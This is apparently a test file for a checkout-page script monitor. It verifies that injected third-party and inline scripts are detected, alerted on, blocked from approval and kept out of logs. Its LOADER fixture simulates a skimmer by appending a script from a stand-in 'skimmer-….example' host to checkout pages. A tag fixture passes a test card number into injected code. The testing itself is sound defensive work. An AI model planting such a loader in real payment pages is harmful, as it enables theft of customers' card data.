// What Chromium reports of pages that only learn: however much of a page is known, or the same again, the script that nobody knows has its
// row and its alert; and code that scripts put into a page has rows of its own.
import assert from 'node:assert/strict';
import http from 'node:http';
import { after, before, test } from 'node:test';

import { open } from './lib/chromium.mjs';
import { sleep } from './lib/processes.mjs';
import { runInFrontOf } from './lib/stand.mjs';

const times = (count, what) => Array.from({ length: count }, (_, number) => what(number)).join('');

const pages = {
  files: times(25, (n) => `<script src="/lib/${n}.js"></script>`) + '<script src="/loader.js?files"></script>',
  pictures: times(60, (n) => `<img alt="" src="https://cdn.example/p${n}.png">`) + '<script src="/loader.js?pictures"></script>',
  // Code of the page's own, which browsers report as well: no row but its own.
  code: `<script>
    window.own = 1;
  </script><script>'use strict'; window.strict = 2</script><p onclick="window.clicked = 3">Pay</p><a href="javascript:void(0)">Back</a>
  <script src="/tags.js"></script>`,
};

/** Puts a script of another host in, when the page stands. */
const LOADER = `setTimeout(() => {
  const script = document.createElement('script');
  script.src = 'https://skimmer-' + new URL(document.scripts[document.scripts.length - 1].src).search.slice(1) + '.example/x.js';
  document.head.append(script);
}, 300);`;

/** As tag managers do. */
const TAGS = `setTimeout(() => {
  const put = (set) => { const script = document.createElement('script'); set(script); document.head.append(script); };
  put((script) => { script.textContent = 'window.byContent = 1; /* ann@shop.example */'; });
  put((script) => { script.text = 'window.byText("4111111111111111", "ann@shop.example")'; });
  const button = document.createElement('button');
  button.setAttribute('onclick', 'window.byHandler = 1');
  document.body.append(button);
  button.click();
  document.querySelector('p').click();
  document.querySelector('a').click();
  const frame = document.createElement('iframe');
  frame.src = 'javascript:window.byFrame=1;void 0';
  document.body.append(frame);
}, 300);`;

let shop;
let stand;
let browser;

before(async () => {
  shop = http.createServer((asked, answer) => {
    asked.resume();
    const { pathname } = new URL(asked.url, 'http://shop');
    const say = (type, text) => answer.writeHead(200, { 'content-type': `${type}; charset=utf-8` }).end(text);
    const page = pages[pathname.split('/')[2]];
    if (pathname.startsWith('/checkout/') && page) {
      return say('text/html', `<!doctype html><html lang="en"><head><title>Pay</title></head><body><h1>Pay</h1>${page}</body></html>`);
    }
    if (pathname === '/loader.js') return say('text/javascript', LOADER);
    if (pathname === '/tags.js') return say('text/javascript', TAGS);
    if (pathname.startsWith('/lib/')) return say('text/javascript', `window.lib = '${pathname}';`);
    return answer.writeHead(404).end();
  });
  await new Promise((done) => shop.listen(0, '127.0.0.1', done));
  const guarded = JSON.stringify(Object.keys(pages).map((name) => `/checkout/${name}`));
  const section = `[checkout]\nmode = "learn"\npages = ${guarded}\nproviders = ["stripe", "paypal"]\n`;
  stand = await runInFrontOf(`http://127.0.0.1:${shop.address().port}`, section);
  browser = await open(stand.ready.ca);
});

after(async () => {
  await browser?.close();
  await stand?.stop();
  shop?.closeAllConnections();
  shop?.close();
});

const rows = async () => JSON.parse(await stand.say(['checkout', 'scripts', '--show', 'all', '--json']));
const alerts = async () => JSON.parse(await stand.say(['checkout', 'alerts', '--json']));
// Of a handler that is set Chromium reports no beginning.
const putIn = (all) => all.filter((row) => /^(any other )?code that /.test(row.address));

/** Chromium holds what it reports back for up to a minute. */
async function until(what, holds) {
  for (const end = Date.now() + 150_000; Date.now() < end;) {
    const found = await holds();
    if (found) return found;
    await sleep(1_000);
  }
  return assert.fail(`never: ${what}: ${JSON.stringify((await rows()).map((row) => `${row.kind} ${row.address}`))}`);
}

test('what is new in a long message has its row and its alert', async () => {
  const visits = [];
  for (const name of Object.keys(pages)) {
    const { page, context } = await browser.visitor();
    await page.goto(new URL(`/checkout/${name}`, stand.ready.shop).href);
    visits.push(context);
  }
  for (const name of ['files', 'pictures']) {
    const address = `https://skimmer-${name}.example/x.js`;
    await until(address, async () => (await rows()).find((row) => row.kind === 'script' && row.address === address));
    const told = await alerts();
    assert.ok(told.some((alert) => alert.kind === 'script_new' && alert.what.endsWith(address)), address);
  }
  await until('what /tags.js puts in', async () => putIn(await rows()).filter((row) => row.initiator?.endsWith('/tags.js')).length >= 4);
  for (const context of visits) await context.close();
});

test('code that a script puts in has rows, and stands where it is listed what would stop', async () => {
  const all = await rows();
  const found = putIn(all);
  assert.deepEqual(found.map((row) => row.kind).sort(), ['handler', 'inline', 'inline', 'inline'], JSON.stringify(found));
  for (const row of found) {
    assert.match(row.initiator, /^https:\/\/localhost:\d+\/tags\.js$/);
    const which = row.kind === 'handler' ? 'any other code' : 'code';
    assert.match(row.address, new RegExp(`^${which} that localhost:\\d+/tags\\.js puts in \\(cannot be approved\\)$`));
    assert.deepEqual([row.page, row.source, row.status, row.sha256, row.sample], ['/checkout/code', 'report', 'new', null, '']);
    assert.ok((await alerts()).some((alert) => alert.kind === 'script_new' && alert.script === row.id && !alert.closed_at));
    const approve = ['checkout', 'approve', row.id, '--scope', 'address', '--owner', 'The shop', '--why', 'Tags'];
    await assert.rejects(stand.say(approve), /no approval lets it run/);
  }
  const own = all.filter((row) => row.source === 'page' && ['inline', 'handler'].includes(row.kind));
  assert.equal(own.length, 3, JSON.stringify(own));
  const listed = await stand.say(['checkout', 'hold', '/checkout/code', 'enforce']).catch((fault) => fault.message);
  for (const row of found) assert.ok(listed.includes(row.id), listed);
  const kept = JSON.stringify([all, await alerts(), await stand.say(['events', '-n', '500'])]);
  for (const secret of ['4111111111111111', 'ann@shop']) assert.ok(!kept.includes(secret), secret);
});
